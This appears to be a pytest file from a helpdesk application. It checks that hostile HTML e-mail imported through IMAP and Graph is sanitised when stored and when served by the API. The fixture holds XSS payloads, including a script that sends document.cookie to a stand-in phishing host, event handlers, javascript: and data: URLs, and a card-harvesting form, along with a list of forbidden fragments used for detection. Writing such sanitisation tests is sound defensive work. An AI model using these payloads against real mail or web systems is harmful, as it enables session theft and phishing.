"""Hostile inbound e-mail (multipart/alternative with an HTML part full of script, event handlers, javascript:
links, CSS expressions, SVG onload and data: URLs) is stored and served safe through the IMAP and the Graph import
paths; the formatting and cid: images survive, and the text derived from the HTML holds no script."""

from email import policy
from email.message import EmailMessage
from email.parser import BytesParser

import pytest

from messaging import services
from tests.channels_cfg.factories import ChannelFactory
from tests.messaging.conftest import graph_message, mock_graph_messages
from tickets.models import TicketMessage

pytestmark = pytest.mark.django_db

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Invoice</title>
<meta http-equiv="refresh" content="0;url=https://phish.test/login"><base href="https://phish.test/">
<style>body { background: url(https://track.test/open.gif) }</style>
<script>fetch('https://phish.test/?c=' + document.cookie)</script></head>
<body onload="steal()">
<p style="color: #222; width: expression(alert(1))">Dear customer, <b>your invoice</b> is attached.</p>
<p><a href="javascript:alert(document.domain)">View invoice</a> or <a href="https://shop.test/i/42">open it</a>.</p>
<img src="cid:logo@shop" alt="Shop logo"><img src="x" onerror="alert(2)"><img src="data:image/svg+xml;base64,PHN2Zz4=">
<svg onload="alert(3)"><foreignObject><iframe src="https://phish.test"></iframe></foreignObject></svg>
<div style="background-image: url(javascript:alert(4))">Totals</div>
<table border="1"><tr><td>Item</td><td onclick="alert(5)">12.50</td></tr></table>
<form action="https://phish.test/pay"><input name="card"><button>Pay now</button></form>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">details</a>
</body></html>"""

FORBIDDEN = (
    "<script", "document.cookie", "onload", "onerror", "onclick", "javascript:", "expression(", "<svg",
    "foreignobject", "<iframe", "<form", "<input", "<meta", "<base", "refresh", "data:", "track.test", "<style",
    "phish.test",
)  # fmt: skip
KEPT = ("<b>your invoice</b>", 'href="https://shop.test/i/42"', 'src="cid:logo@shop"', "<td>12.50</td>", "color: #222")


def _assert_safe(html: str) -> None:
    lowered = html.lower()
    for fragment in FORBIDDEN:
        assert fragment not in lowered, (fragment, html)
    for fragment in KEPT:
        assert fragment in html, (fragment, html)


def _hostile_mime(*, with_text_part: bool) -> bytes:
    mail = EmailMessage()
    mail["From"] = "Billing <billing@phish.test>"
    mail["To"] = "desk@acme.test"
    mail["Subject"] = "Your invoice"
    mail["Message-ID"] = f"<hostile-{with_text_part}@phish.test>"
    if with_text_part:
        mail.set_content("Dear customer, your invoice is attached.")
        mail.add_alternative(HOSTILE_HTML, subtype="html")
    else:
        mail.set_content(HOSTILE_HTML, subtype="html")
    return mail.as_bytes()


@pytest.mark.parametrize("with_text_part", [True, False])
def test_imap_mail_is_stored_and_served_safe(admin_client, customer, with_text_part):
    channel = ChannelFactory(customer=customer, email_address="desk@acme.test")
    parsed = BytesParser(policy=policy.default).parsebytes(_hostile_mime(with_text_part=with_text_part))
    assert parsed.get_content_type() == ("multipart/alternative" if with_text_part else "text/html")
    message = services.mail_import(channel=channel, mail=services.rfc822_mail_parse(parsed, "desk@acme.test"))
    message.refresh_from_db()
    _assert_safe(message.html_body)
    # The text (the plain part, or derived from the HTML when there is none) holds no code and no style rules.
    assert "Dear customer" in message.text_body
    assert "cookie" not in message.text_body and "background" not in message.text_body
    assert "Pay now" not in message.text_body  # a form's button is not text of the mail
    served = admin_client.get(f"/api/TicketMessages/{message.pk}")
    assert served.status_code == 200
    _assert_safe(served.json()["htmlBody"])
    listed = admin_client.get("/api/TicketMessages", {"ticketId": message.ticket_id})
    assert listed.status_code == 200
    (item,) = listed.json()["items"]
    _assert_safe(item["htmlBody"])


def test_graph_import_is_stored_safe(graph_mock, graph_folder):
    mock_graph_messages(graph_mock, [graph_message(1, body=HOSTILE_HTML)])
    assert services.graph_folder_import(folder=graph_folder) == 1
    message = TicketMessage.objects.get(message_identifier="<mail-1@example.com>")
    _assert_safe(message.html_body)
    assert message.text_body.startswith("Dear customer, your invoice is attached.")
    assert "cookie" not in message.text_body and "steal" not in message.text_body
